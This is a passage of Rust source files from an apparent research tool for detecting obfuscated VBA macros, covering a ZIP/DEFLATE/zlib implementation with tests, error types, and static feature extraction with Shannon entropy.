            let name_bytes = entry.name.as_bytes();
            self.out
                .extend_from_slice(&CENTRAL_HEADER_SIG.to_le_bytes());
            self.out.extend_from_slice(&20u16.to_le_bytes()); // version made by
            self.out.extend_from_slice(&20u16.to_le_bytes()); // version needed
            self.out.extend_from_slice(&0u16.to_le_bytes()); // flags
            self.out.extend_from_slice(&entry.method.to_le_bytes());
            self.out.extend_from_slice(&0u16.to_le_bytes()); // mod time
            self.out.extend_from_slice(&0x21u16.to_le_bytes()); // mod date
            self.out.extend_from_slice(&entry.crc32.to_le_bytes());
            self.out
                .extend_from_slice(&entry.compressed_size.to_le_bytes());
            self.out
                .extend_from_slice(&entry.uncompressed_size.to_le_bytes());
            self.out
                .extend_from_slice(&(name_bytes.len() as u16).to_le_bytes());
            self.out.extend_from_slice(&0u16.to_le_bytes()); // extra len
            self.out.extend_from_slice(&0u16.to_le_bytes()); // comment len
            self.out.extend_from_slice(&0u16.to_le_bytes()); // disk number
            self.out.extend_from_slice(&0u16.to_le_bytes()); // internal attrs
            self.out.extend_from_slice(&0u32.to_le_bytes()); // external attrs
            self.out
                .extend_from_slice(&entry.local_header_offset.to_le_bytes());
            self.out.extend_from_slice(name_bytes);
        }
        let cd_size = self.out.len() as u32 - cd_offset;
        let count = self.entries.len() as u16;
        self.out.extend_from_slice(&EOCD_SIG.to_le_bytes());
        self.out.extend_from_slice(&0u16.to_le_bytes()); // disk number
        self.out.extend_from_slice(&0u16.to_le_bytes()); // cd start disk
        self.out.extend_from_slice(&count.to_le_bytes());
        self.out.extend_from_slice(&count.to_le_bytes());
        self.out.extend_from_slice(&cd_size.to_le_bytes());
        self.out.extend_from_slice(&cd_offset.to_le_bytes());
        self.out.extend_from_slice(&0u16.to_le_bytes()); // comment len
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_stored_and_deflate() {
        let mut w = ZipWriter::new();
        w.add_file("stored.txt", b"plain contents", CompressionMethod::Stored)
            .unwrap();
        let big = b"repetitive payload ".repeat(500);
        w.add_file("deep/nested/deflate.bin", &big, CompressionMethod::Deflate)
            .unwrap();
        let bytes = w.finish();

        let archive = ZipArchive::parse(&bytes).unwrap();
        assert_eq!(archive.entries().len(), 2);
        assert!(archive.contains("stored.txt"));
        assert_eq!(archive.read_file("stored.txt").unwrap(), b"plain contents");
        assert_eq!(archive.read_file("deep/nested/deflate.bin").unwrap(), big);
        // Deflate member should actually be smaller on disk.
        let entry = archive
            .entries()
            .iter()
            .find(|e| e.name.ends_with("deflate.bin"))
            .unwrap();
        assert_eq!(entry.method, 8);
        assert!(entry.compressed_size < entry.uncompressed_size);
    }

    #[test]
    fn incompressible_member_falls_back_to_stored() {
        let mut state = 99u64;
        let noise: Vec<u8> = (0..4096)
            .map(|_| {
                state = state
                    .wrapping_mul(2862933555777941757)
                    .wrapping_add(3037000493);
                (state >> 33) as u8
            })
            .collect();
        let mut w = ZipWriter::new();
        w.add_file("noise", &noise, CompressionMethod::Deflate)
            .unwrap();
        let bytes = w.finish();
        let archive = ZipArchive::parse(&bytes).unwrap();
        assert_eq!(archive.entries()[0].method, 0);
        assert_eq!(archive.read_file("noise").unwrap(), noise);
    }

    #[test]
    fn empty_archive_roundtrips() {
        let bytes = ZipWriter::new().finish();
        let archive = ZipArchive::parse(&bytes).unwrap();
        assert_eq!(archive.entries().len(), 0);
        assert!(matches!(
            archive.read_file("x"),
            Err(ZipError::MemberNotFound(_))
        ));
    }

    #[test]
    fn empty_member_roundtrips() {
        let mut w = ZipWriter::new();
        w.add_file("empty", b"", CompressionMethod::Deflate)
            .unwrap();
        let bytes = w.finish();
        let archive = ZipArchive::parse(&bytes).unwrap();
        assert_eq!(archive.read_file("empty").unwrap(), b"");
    }

    #[test]
    fn corrupted_member_detected_by_crc() {
        let mut w = ZipWriter::new();
        w.add_file("f", b"0123456789abcdef", CompressionMethod::Stored)
            .unwrap();
        let mut bytes = w.finish();
        // Flip a data byte inside the stored member (after the 30-byte local
        // header + 1-byte name).
        bytes[31 + 4] ^= 0xFF;
        let archive = ZipArchive::parse(&bytes).unwrap();
        assert!(matches!(
            archive.read_file("f"),
            Err(ZipError::CrcMismatch { .. })
        ));
    }

    #[test]
    fn missing_eocd_rejected() {
        assert!(matches!(
            ZipArchive::parse(&[0u8; 64]),
            Err(ZipError::MissingEndOfCentralDirectory)
        ));
        assert!(ZipArchive::parse(b"short").is_err());
    }

    #[test]
    fn unsupported_method_reported() {
        let mut w = ZipWriter::new();
        w.add_file("f", b"data here", CompressionMethod::Stored)
            .unwrap();
        let mut bytes = w.finish();
        // Patch method field in both local (offset 8) and central headers.
        bytes[8] = 99;
        let cd = bytes.len() - 22 - 46 - 1; // EOCD + one CD entry + name "f"
        bytes[cd + 10] = 99;
        let archive = ZipArchive::parse(&bytes).unwrap();
        assert!(matches!(
            archive.read_file("f"),
            Err(ZipError::UnsupportedMethod(99))
        ));
    }

    #[test]
    fn archive_with_comment_is_parsed() {
        let mut bytes = {
            let mut w = ZipWriter::new();
            w.add_file("f", b"x", CompressionMethod::Stored).unwrap();
            w.finish()
        };
        // Append a trailing comment and fix the comment-length field.
        let comment = b"trailing zip comment";
        let eocd = bytes.len() - 22;
        bytes[eocd + 20] = comment.len() as u8;
        bytes.extend_from_slice(comment);
        let archive = ZipArchive::parse(&bytes).unwrap();
        assert_eq!(archive.read_file("f").unwrap(), b"x");
    }

    #[test]
    fn many_members() {
        let mut w = ZipWriter::new();
        for i in 0..300 {
            let name = format!("part/{i}.xml");
            let body = format!("<part id='{i}'/>").repeat(i % 7 + 1);
            w.add_file(&name, body.as_bytes(), CompressionMethod::Deflate)
                .unwrap();
        }
        let bytes = w.finish();
        let archive = ZipArchive::parse(&bytes).unwrap();
        assert_eq!(archive.entries().len(), 300);
        for i in [0usize, 1, 150, 299] {
            let body = format!("<part id='{i}'/>").repeat(i % 7 + 1);
            assert_eq!(
                archive.read_file(&format!("part/{i}.xml")).unwrap(),
                body.as_bytes()
            );
        }
    }
}
