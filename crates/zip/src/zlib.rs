//! RFC 1950 zlib wrapping (2-byte header + Adler-32 trailer) around the raw
//! DEFLATE codec — some OOXML-adjacent tooling stores zlib streams rather
//! than raw DEFLATE, and the Adler-32 gives an end-to-end integrity check
//! the raw format lacks.

use crate::deflate::{deflate, BlockStyle};
use crate::inflate::inflate_with_limit;
use crate::ZipError;

/// Adler-32 checksum (RFC 1950 §8).
pub fn adler32(data: &[u8]) -> u32 {
    const MOD: u32 = 65_521;
    let (mut a, mut b) = (1u32, 0u32);
    // Process in chunks small enough that the u32 accumulators cannot
    // overflow before the modulo (5552 is the standard bound).
    for chunk in data.chunks(5552) {
        for &byte in chunk {
            a += byte as u32;
            b += a;
        }
        a %= MOD;
        b %= MOD;
    }
    (b << 16) | a
}

/// Compresses `data` into a zlib stream (RFC 1950).
pub fn zlib_compress(data: &[u8], style: BlockStyle) -> Vec<u8> {
    let body = deflate(data, style);
    let mut out = Vec::with_capacity(body.len() + 6);
    // CMF: deflate (8), 32K window (7 << 4). FLG: check bits so that
    // (CMF*256 + FLG) % 31 == 0, no preset dictionary, default level.
    let cmf = 0x78u8;
    let mut flg = 0x80u8; // FLEVEL = default-ish
    let rem = ((cmf as u16) * 256 + flg as u16) % 31;
    if rem != 0 {
        flg += (31 - rem) as u8;
    }
    out.push(cmf);
    out.push(flg);
    out.extend_from_slice(&body);
    out.extend_from_slice(&adler32(data).to_be_bytes());
    out
}

/// Decompresses a zlib stream.
///
/// # Errors
///
/// Fails on a bad header, malformed DEFLATE body, truncated trailer, or an
/// Adler-32 mismatch.
pub fn zlib_decompress(data: &[u8]) -> Result<Vec<u8>, ZipError> {
    if data.len() < 6 {
        return Err(ZipError::Truncated {
            offset: 0,
            needed: 6,
        });
    }
    let cmf = data[0];
    let flg = data[1];
    if cmf & 0x0F != 8 {
        return Err(ZipError::InvalidDeflate("zlib: method is not deflate"));
    }
    if !((cmf as u16) * 256 + flg as u16).is_multiple_of(31) {
        return Err(ZipError::InvalidDeflate("zlib: header check bits invalid"));
    }
    if flg & 0x20 != 0 {
        return Err(ZipError::InvalidDeflate(
            "zlib: preset dictionaries unsupported",
        ));
    }
    let body = &data[2..data.len() - 4];
    let out = inflate_with_limit(body, 1 << 30)?;
    let expected = u32::from_be_bytes([
        data[data.len() - 4],
        data[data.len() - 3],
        data[data.len() - 2],
        data[data.len() - 1],
    ]);
    let found = adler32(&out);
    if expected != found {
        return Err(ZipError::CrcMismatch {
            name: "zlib stream (adler32)".to_string(),
            expected,
            found,
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn adler_known_vectors() {
        assert_eq!(adler32(b""), 1);
        assert_eq!(adler32(b"Wikipedia"), 0x11E6_0398);
        // Long input exercises the chunked modulo.
        let long = vec![0xFFu8; 100_000];
        assert_eq!(adler32(&long), {
            // Reference computation with u64 accumulators.
            let (mut a, mut b) = (1u64, 0u64);
            for &byte in &long {
                a = (a + byte as u64) % 65521;
                b = (b + a) % 65521;
            }
            ((b as u32) << 16) | a as u32
        });
    }

    #[test]
    fn roundtrip_all_styles() {
        let data = b"zlib wrapped payload, repeated ".repeat(100);
        for style in [BlockStyle::Stored, BlockStyle::Fixed, BlockStyle::Dynamic] {
            let packed = zlib_compress(&data, style);
            assert_eq!(zlib_decompress(&packed).unwrap(), data, "{style:?}");
        }
    }

    #[test]
    fn python_zlib_fixture_decodes() {
        // zlib.compress(b"hello hello hello hello") — standard header 0x78 0x9C.
        let packed = [
            0x78u8, 0x9C, 0xCB, 0x48, 0xCD, 0xC9, 0xC9, 0x57, 0xC8, 0x40, 0x27, 0x01, 0x68, 0x03,
            0x08, 0xB1,
        ];
        assert_eq!(
            zlib_decompress(&packed).unwrap(),
            b"hello hello hello hello"
        );
    }

    #[test]
    fn corrupted_payload_caught_by_adler() {
        let mut packed = zlib_compress(b"integrity matters here", BlockStyle::Stored);
        let mid = packed.len() / 2;
        packed[mid] ^= 0x01;
        assert!(zlib_decompress(&packed).is_err());
    }

    #[test]
    fn bad_headers_rejected() {
        assert!(zlib_decompress(&[0x78, 0x9C, 0, 0]).is_err()); // too short
        assert!(zlib_decompress(&[0x79, 0x9C, 0, 0, 0, 0, 0]).is_err()); // method
        assert!(zlib_decompress(&[0x78, 0x9D, 0, 0, 0, 0, 0]).is_err()); // check bits
        assert!(zlib_decompress(&[0x78, 0xBC, 0, 0, 0, 0, 0]).is_err()); // dictionary
    }
}
