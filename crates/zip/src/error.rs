use std::error::Error;
use std::fmt;

use vbadet_faultpoint::BudgetExceeded;

/// Errors produced while reading or writing ZIP archives and DEFLATE streams.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum ZipError {
    /// The end-of-central-directory record was not found.
    MissingEndOfCentralDirectory,
    /// A structure was truncated: expected at least `needed` bytes at `offset`.
    Truncated { offset: usize, needed: usize },
    /// A magic signature did not match.
    BadSignature {
        offset: usize,
        expected: u32,
        found: u32,
    },
    /// The named member does not exist in the archive.
    MemberNotFound(String),
    /// The archive uses a compression method this crate does not implement.
    UnsupportedMethod(u16),
    /// The stored CRC-32 does not match the decompressed data.
    CrcMismatch {
        name: String,
        expected: u32,
        found: u32,
    },
    /// The DEFLATE stream is malformed.
    InvalidDeflate(&'static str),
    /// A declared size is inconsistent with the actual data.
    SizeMismatch {
        name: String,
        expected: usize,
        found: usize,
    },
    /// A configured resource limit was exceeded (member size, entry count…).
    /// Distinguished from malformed-structure errors so callers can report
    /// capped inputs — e.g. decompression bombs — as a typed outcome.
    LimitExceeded { what: &'static str, limit: usize },
    /// The caller's scan budget (wall-clock deadline or fuel allowance)
    /// tripped mid-parse. Unlike [`ZipError::LimitExceeded`] this says
    /// nothing about the input's structure — only that the caller ran out
    /// of patience for it.
    DeadlineExceeded(BudgetExceeded),
}

impl From<BudgetExceeded> for ZipError {
    fn from(why: BudgetExceeded) -> Self {
        ZipError::DeadlineExceeded(why)
    }
}

impl fmt::Display for ZipError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ZipError::MissingEndOfCentralDirectory => {
                write!(f, "end-of-central-directory record not found")
            }
            ZipError::Truncated { offset, needed } => {
                write!(
                    f,
                    "truncated structure at offset {offset}, needed {needed} bytes"
                )
            }
            ZipError::BadSignature {
                offset,
                expected,
                found,
            } => write!(
                f,
                "bad signature at offset {offset}: expected {expected:#010x}, found {found:#010x}"
            ),
            ZipError::MemberNotFound(name) => write!(f, "member not found: {name}"),
            ZipError::UnsupportedMethod(m) => write!(f, "unsupported compression method {m}"),
            ZipError::CrcMismatch {
                name,
                expected,
                found,
            } => write!(
                f,
                "crc mismatch for {name}: expected {expected:#010x}, found {found:#010x}"
            ),
            ZipError::InvalidDeflate(msg) => write!(f, "invalid deflate stream: {msg}"),
            ZipError::SizeMismatch {
                name,
                expected,
                found,
            } => {
                write!(
                    f,
                    "size mismatch for {name}: expected {expected}, found {found}"
                )
            }
            ZipError::LimitExceeded { what, limit } => {
                write!(f, "resource limit exceeded: {what} (limit {limit})")
            }
            ZipError::DeadlineExceeded(why) => write!(f, "scan budget exceeded: {why}"),
        }
    }
}

impl Error for ZipError {}
