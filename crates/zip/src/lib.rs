//! Minimal, dependency-free ZIP and raw-DEFLATE implementation.
//!
//! OOXML documents (`.docm`, `.xlsm`) are ZIP archives whose members are
//! (usually) DEFLATE-compressed. The paper's extraction pipeline therefore
//! needs a ZIP container reader; the synthetic-corpus generator additionally
//! needs a writer so that end-to-end tests exercise real container bytes.
//!
//! The crate provides:
//!
//! - [`crc32`]: the CRC-32 checksum used by ZIP,
//! - [`mod@deflate`]: an RFC 1951 compressor (stored / fixed-Huffman /
//!   dynamic-Huffman blocks with greedy LZ77 matching),
//! - [`mod@inflate`]: a full RFC 1951 decompressor,
//! - [`ZipArchive`]/[`ZipWriter`]: ZIP archive reading and writing
//!   (methods 0 and 8),
//! - [`zlib`]: the RFC 1950 wrapper with Adler-32 integrity.
//!
//! # Examples
//!
//! ```
//! use vbadet_zip::{ZipWriter, ZipArchive, CompressionMethod};
//!
//! # fn main() -> Result<(), vbadet_zip::ZipError> {
//! let mut writer = ZipWriter::new();
//! writer.add_file("word/vbaProject.bin", b"binary payload", CompressionMethod::Deflate)?;
//! let bytes = writer.finish();
//!
//! let archive = ZipArchive::parse(&bytes)?;
//! assert_eq!(archive.read_file("word/vbaProject.bin")?, b"binary payload");
//! # Ok(())
//! # }
//! ```

mod archive;
mod bits;
pub mod crc32;
pub mod deflate;
mod error;
mod huffman;
pub mod inflate;
pub mod zlib;

pub use archive::{CompressionMethod, ZipArchive, ZipEntry, ZipLimits, ZipWriter};
pub use deflate::{deflate, BlockStyle};
pub use error::ZipError;
pub use inflate::{inflate, inflate_budgeted, inflate_with_limit};
pub use vbadet_faultpoint::{Budget, BudgetExceeded};
pub use zlib::{adler32, zlib_compress, zlib_decompress};
