//! Static feature extraction for obfuscation detection.
//!
//! Implements the paper's two feature sets:
//!
//! - [`vset`]: the 15 proposed discriminant features V1–V15 (Table IV),
//!   designed around the O1–O4 obfuscation techniques;
//! - [`jset`]: the 20 comparison features J1–J20 (Table VI) from the
//!   obfuscated-JavaScript literature (Likarish et al. \[24\], Aebersold et
//!   al. \[26\]), adapted to VBA exactly as the paper describes (J14 uses a
//!   150-character line threshold).
//!
//! Both extractors turn one macro's source into a fixed-width `f64` vector;
//! classifier-side standardization lives in `vbadet-ml`.
//!
//! # Examples
//!
//! ```
//! use vbadet_features::{v_features, V_DIM, V_NAMES};
//!
//! let v = v_features("Sub A()\r\n    x = Chr(65) & \"B\"\r\nEnd Sub\r\n");
//! assert_eq!(v.len(), V_DIM);
//! assert_eq!(V_NAMES[12], "V13 shannon entropy of the file");
//! assert!(v[12] > 0.0);
//! ```

pub mod entropy;
mod fused;
pub mod jset;
#[cfg(any(test, feature = "reference"))]
pub mod reference;
pub mod vset;

pub use entropy::{entropy_from_counts, shannon_entropy};
pub use fused::PassScratch;
pub use jset::{j_features, j_features_from, J_DIM, J_NAMES};
pub use vset::{v_features, v_features_from, V_DIM, V_NAMES};

/// Which feature set to extract; used by experiment drivers that sweep both.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FeatureSet {
    /// The proposed V1–V15 set.
    V,
    /// The comparison J1–J20 set.
    J,
}

impl FeatureSet {
    /// Vector width of this feature set.
    pub fn dim(self) -> usize {
        match self {
            FeatureSet::V => V_DIM,
            FeatureSet::J => J_DIM,
        }
    }

    /// Human-readable feature names, index-aligned with the vectors.
    pub fn names(self) -> &'static [&'static str] {
        match self {
            FeatureSet::V => &V_NAMES,
            FeatureSet::J => &J_NAMES,
        }
    }

    /// Extracts this feature set from macro source code.
    pub fn extract(self, source: &str) -> Vec<f64> {
        match self {
            FeatureSet::V => v_features(source).to_vec(),
            FeatureSet::J => j_features(source).to_vec(),
        }
    }
}

/// Reusable per-worker extraction state: the lexer buffers, the token-pass
/// buffers, and the output vector — cleared per document, capacity
/// retained, so steady-state extraction performs no heap allocation.
///
/// ```
/// use vbadet_features::{FeatureScratch, FeatureSet};
/// let mut scratch = FeatureScratch::default();
/// let v = scratch.extract(FeatureSet::V, "x = Chr(65)").to_vec();
/// assert_eq!(v, FeatureSet::V.extract("x = Chr(65)"));
/// ```
#[derive(Debug, Default)]
pub struct FeatureScratch {
    lex: vbadet_vba::LexScratch,
    pass: PassScratch,
    out: Vec<f64>,
}

impl FeatureScratch {
    /// Extracts `set` from `source` into the reusable output buffer.
    /// Identical (bit-for-bit) to [`FeatureSet::extract`].
    pub fn extract(&mut self, set: FeatureSet, source: &str) -> &[f64] {
        let analysis = vbadet_vba::MacroAnalysis::with_scratch(source, &mut self.lex);
        self.out.clear();
        match set {
            FeatureSet::V => self
                .out
                .extend_from_slice(&vset::v_features_fused(&analysis, &mut self.pass)),
            FeatureSet::J => self
                .out
                .extend_from_slice(&jset::j_features_fused(&analysis, &mut self.pass)),
        }
        analysis.recycle(&mut self.lex);
        &self.out
    }
}

impl std::fmt::Display for FeatureSet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            FeatureSet::V => write!(f, "V1-V15"),
            FeatureSet::J => write!(f, "J1-J20"),
        }
    }
}

/// Mean of a sequence of lengths (0 when empty).
pub(crate) fn mean(values: impl Iterator<Item = f64>) -> f64 {
    let (mut sum, mut n) = (0.0, 0usize);
    for v in values {
        sum += v;
        n += 1;
    }
    if n == 0 {
        0.0
    } else {
        sum / n as f64
    }
}

/// Population variance (0 when fewer than 2 items).
pub(crate) fn variance(values: &[f64]) -> f64 {
    if values.len() < 2 {
        return 0.0;
    }
    let m = values.iter().sum::<f64>() / values.len() as f64;
    values.iter().map(|v| (v - m) * (v - m)).sum::<f64>() / values.len() as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn feature_set_dims_and_names_align() {
        assert_eq!(FeatureSet::V.dim(), 15);
        assert_eq!(FeatureSet::J.dim(), 20);
        assert_eq!(FeatureSet::V.names().len(), 15);
        assert_eq!(FeatureSet::J.names().len(), 20);
        assert_eq!(FeatureSet::V.extract("x = 1").len(), 15);
        assert_eq!(FeatureSet::J.extract("x = 1").len(), 20);
    }

    #[test]
    fn mean_and_variance() {
        assert_eq!(mean([].into_iter()), 0.0);
        assert_eq!(mean([2.0, 4.0].into_iter()), 3.0);
        assert_eq!(variance(&[]), 0.0);
        assert_eq!(variance(&[5.0]), 0.0);
        assert!((variance(&[2.0, 4.0]) - 1.0).abs() < 1e-12);
        assert!((variance(&[1.0, 2.0, 3.0, 4.0]) - 1.25).abs() < 1e-12);
    }
}
