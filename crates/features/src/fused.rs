//! Token-stream passes shared by the fused J/V extractors.
//!
//! Everything here walks the contiguous [`SpanToken`] slice of a
//! [`MacroAnalysis`] — never the source text — and writes into reusable
//! [`PassScratch`] buffers, so steady-state extraction allocates nothing.
//! Each quantity is accumulated in the exact order the historical
//! extractors iterated it, keeping every derived `f64` bit-identical to
//! the reference implementation (see `crate::reference`).

use vbadet_vba::{functions, FunctionCategory, MacroAnalysis, SpanKind, SpanToken};

/// Reusable buffers for the token passes (cleared per document, capacity
/// retained).
#[derive(Debug, Default)]
pub struct PassScratch {
    arg_spans: Vec<(usize, usize)>,
    ident_cand: Vec<(u64, u32)>,
    ident_first: Vec<u32>,
    pub(crate) ident_lengths: Vec<f64>,
}

/// Quantities derived from one streaming pass over the token slice:
/// call sites (with category counts), string operators, and procedure
/// bodies.
#[derive(Debug, Default)]
pub(crate) struct TokenDerived {
    /// Number of call sites (J7).
    pub call_count: usize,
    /// Calls per function category, V8–V12 order.
    pub cat_counts: [f64; 5],
    /// `&`/`+`/`=` operator tokens (V5).
    pub string_ops: usize,
    /// Closed procedure bodies (J18/J20).
    pub body_count: usize,
    /// Characters across closed bodies, accumulated in body order (J18/J19).
    pub body_chars: f64,
}

fn is_significant(t: &SpanToken) -> bool {
    !matches!(t.kind, SpanKind::Comment(_) | SpanKind::Newline)
}

/// Whether the *previous significant token* makes an identifier a
/// declaration name rather than a call.
fn is_decl_keyword(k: &str) -> bool {
    ["sub", "function", "property", "dim", "const", "as"]
        .iter()
        .any(|d| k.eq_ignore_ascii_case(d))
}

/// One pass over the tokens: call sites + categories, string operators,
/// procedure bodies. Streaming equivalent of the `call_sites()` /
/// `string_operator_count()` / `procedure_body_spans()` views.
pub(crate) fn token_derived(analysis: &MacroAnalysis) -> TokenDerived {
    let source = analysis.source();
    let text = |t: &SpanToken| &source[t.start..t.end];
    // `iter::Sum for f64` folds from -0.0, so the reference's body-char
    // sum is -0.0 when no body exists — and that sign bit survives into
    // J19. Start from the same identity to stay bit-identical.
    let mut d = TokenDerived {
        body_chars: -0.0,
        ..TokenDerived::default()
    };
    // Call-site machine: an identifier is "pending" until the next
    // significant token decides paren-call vs statement-position builtin.
    let mut pending: Option<SpanToken> = None;
    let mut prev_sig: Option<SpanToken> = None;
    let mut open_body: Option<usize> = None;

    let resolve = |d: &mut TokenDerived, p: SpanToken, followed_by_paren: bool| {
        let name = &source[p.start..p.end];
        if followed_by_paren || functions::is_builtin(name) {
            d.call_count += 1;
            if let Some(cat) = functions::categorize(name) {
                let idx = match cat {
                    FunctionCategory::Text => 0,
                    FunctionCategory::Arithmetic => 1,
                    FunctionCategory::TypeConversion => 2,
                    FunctionCategory::Financial => 3,
                    FunctionCategory::Rich => 4,
                };
                d.cat_counts[idx] += 1.0;
            }
        }
    };

    for t in analysis.tokens() {
        if matches!(t.kind, SpanKind::Operator("&" | "+" | "=")) {
            d.string_ops += 1;
        }
        if !is_significant(t) {
            continue;
        }
        if let Some(p) = pending.take() {
            resolve(&mut d, p, matches!(t.kind, SpanKind::Operator("(")));
        }
        match t.kind {
            SpanKind::Identifier => {
                let declared = matches!(prev_sig, Some(p) if matches!(p.kind, SpanKind::Keyword)
                    && is_decl_keyword(text(&p)));
                if !declared {
                    pending = Some(*t);
                }
            }
            SpanKind::Keyword => {
                let k = text(t);
                if k.eq_ignore_ascii_case("sub") || k.eq_ignore_ascii_case("function") {
                    let prev_is = |name: &str| {
                        matches!(prev_sig, Some(p) if matches!(p.kind, SpanKind::Keyword)
                            && text(&p).eq_ignore_ascii_case(name))
                    };
                    if prev_is("declare") {
                        // Prototype, not a body.
                    } else if prev_is("end") {
                        if let Some(start) = open_body.take() {
                            d.body_count += 1;
                            d.body_chars += (t.char_end - start) as f64;
                        }
                    } else if prev_is("exit") {
                        // `Exit Sub` keeps the procedure open.
                    } else if open_body.is_none() {
                        open_body = Some(t.char_start);
                    }
                }
            }
            _ => {}
        }
        prev_sig = Some(*t);
    }
    if let Some(p) = pending.take() {
        resolve(&mut d, p, false);
    }
    d
}

/// J9: character lengths of top-level call arguments, returned as the
/// sequential `(sum, count)` the reference `mean()` accumulated.
///
/// Matches the historical walk exactly: calls are `Identifier` tokens
/// *immediately* followed by `(` in the raw stream (comments/newlines
/// break adjacency, unlike `call_sites()`), argument spans are trimmed,
/// empty arguments skipped, unclosed calls contribute nothing.
pub(crate) fn arg_length_stats(
    analysis: &MacroAnalysis,
    scratch: &mut PassScratch,
) -> (f64, usize) {
    let tokens = analysis.tokens();
    let source = analysis.source();
    let (mut sum, mut count) = (0.0f64, 0usize);
    let mut i = 0usize;
    while i < tokens.len() {
        let is_call_open = matches!(tokens[i].kind, SpanKind::Identifier)
            && matches!(
                tokens.get(i + 1).map(|t| t.kind),
                Some(SpanKind::Operator("("))
            );
        if !is_call_open {
            i += 1;
            continue;
        }
        // Find the matching close paren, collecting top-level comma splits.
        let open = i + 1;
        let mut depth = 0usize;
        let mut arg_start = tokens[open].end;
        let mut j = open;
        scratch.arg_spans.clear();
        let mut closed = false;
        while j < tokens.len() {
            match tokens[j].kind {
                SpanKind::Operator("(") => depth += 1,
                SpanKind::Operator(")") => {
                    depth -= 1;
                    if depth == 0 {
                        scratch.arg_spans.push((arg_start, tokens[j].start));
                        closed = true;
                        break;
                    }
                }
                SpanKind::Operator(",") if depth == 1 => {
                    scratch.arg_spans.push((arg_start, tokens[j].start));
                    arg_start = tokens[j].end;
                }
                _ => {}
            }
            j += 1;
        }
        if closed {
            for &(s, e) in &scratch.arg_spans {
                let text = source[s..e].trim();
                if !text.is_empty() {
                    sum += text.chars().count() as f64;
                    count += 1;
                }
            }
            i = j + 1;
        } else {
            i += 1;
        }
    }
    (sum, count)
}

/// FNV-1a over the ASCII-lowercase folding of `name`'s bytes.
fn folded_hash(name: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in name.bytes() {
        h ^= b.to_ascii_lowercase() as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// V14/V15: distinct user identifier lengths in first-occurrence order —
/// the dedup semantics of `identifiers()` (case-insensitive, builtins
/// excluded) without per-occurrence `String` keys. Fills
/// `scratch.ident_lengths`.
pub(crate) fn ident_lengths<'s>(
    analysis: &MacroAnalysis,
    scratch: &'s mut PassScratch,
) -> &'s [f64] {
    let source = analysis.source();
    let tokens = analysis.tokens();
    scratch.ident_cand.clear();
    scratch.ident_first.clear();
    scratch.ident_lengths.clear();
    for (i, t) in tokens.iter().enumerate() {
        if matches!(t.kind, SpanKind::Identifier) {
            let name = &source[t.start..t.end];
            if !functions::is_builtin(name) {
                scratch.ident_cand.push((folded_hash(name), i as u32));
            }
        }
    }
    // Group by hash; within a group (already in occurrence order) accept
    // an element only if no earlier accepted element matches
    // case-insensitively. Hash collisions across distinct names are
    // resolved by the string compare, so the result is exact.
    scratch.ident_cand.sort_unstable();
    let cand = &scratch.ident_cand;
    let mut g = 0usize;
    while g < cand.len() {
        let mut end = g + 1;
        while end < cand.len() && cand[end].0 == cand[g].0 {
            end += 1;
        }
        for k in g..end {
            let tk = &tokens[cand[k].1 as usize];
            let name = &source[tk.start..tk.end];
            let dup = cand[g..k].iter().any(|&(_, fi)| {
                let ft = &tokens[fi as usize];
                source[ft.start..ft.end].eq_ignore_ascii_case(name)
            });
            if !dup {
                scratch.ident_first.push(cand[k].1);
            }
        }
        g = end;
    }
    // Restore first-occurrence (document) order.
    scratch.ident_first.sort_unstable();
    for &i in &scratch.ident_first {
        scratch
            .ident_lengths
            .push(tokens[i as usize].char_len() as f64);
    }
    &scratch.ident_lengths
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn token_derived_matches_views() {
        let src = "Sub A()\r\n'c\r\nx = Chr(65) & \"s\"\r\nShell p, 1\r\nExit Sub\r\nEnd Sub\r\n\
                   Declare Function F Lib \"k\" ()\r\n";
        let a = MacroAnalysis::new(src);
        let d = token_derived(&a);
        assert_eq!(d.call_count, a.call_sites().len());
        assert_eq!(d.string_ops, a.string_operator_count());
        let bodies = a.procedure_body_spans();
        assert_eq!(d.body_count, bodies.len());
        let expect: f64 = bodies
            .iter()
            .map(|&(s, e)| src[s..e].chars().count() as f64)
            .sum();
        assert_eq!(d.body_chars.to_bits(), expect.to_bits());
    }

    #[test]
    fn ident_dedup_matches_identifiers_view() {
        let src = "Dim Alpha\r\nalpha = ALPHA + beta\r\nx = Chr(1)\r\ncaf\u{e9} = caf\u{c9}\r\n";
        let a = MacroAnalysis::new(src);
        let mut s = PassScratch::default();
        let lens: Vec<f64> = ident_lengths(&a, &mut s).to_vec();
        let expect: Vec<f64> = a
            .identifiers()
            .iter()
            .map(|i| i.chars().count() as f64)
            .collect();
        assert_eq!(lens, expect);
    }
}
