//! Shannon entropy over characters (features V13 and J15).

/// Character-level Shannon entropy of `text`, in bits:
/// `H = -Σ p_i log2 p_i` where `p_i` is the rate of character `i`.
///
/// ```
/// use vbadet_features::shannon_entropy;
/// assert_eq!(shannon_entropy(""), 0.0);
/// assert_eq!(shannon_entropy("aaaa"), 0.0);
/// assert_eq!(shannon_entropy("ab"), 1.0);
/// ```
pub fn shannon_entropy(text: &str) -> f64 {
    // BTreeMap: deterministic iteration order makes the floating-point sum
    // bit-reproducible across processes (HashMap's randomized order would
    // perturb the low bits run-to-run).
    let mut counts: std::collections::BTreeMap<char, u64> = std::collections::BTreeMap::new();
    let mut total = 0u64;
    for c in text.chars() {
        *counts.entry(c).or_insert(0) += 1;
        total += 1;
    }
    if total == 0 {
        return 0.0;
    }
    let total = total as f64;
    counts
        .values()
        .map(|&n| {
            let p = n as f64 / total;
            -p * p.log2()
        })
        .sum()
}

/// Shannon entropy from a precomputed character histogram: `counts` must
/// yield the non-zero per-character counts in ascending character order
/// (as [`vbadet_vba::SourceStats::char_counts`] does) and `total` their
/// sum. Bit-identical to [`shannon_entropy`] on the same text, because the
/// term sequence matches the `BTreeMap` iteration order above.
pub fn entropy_from_counts(counts: impl Iterator<Item = u64>, total: usize) -> f64 {
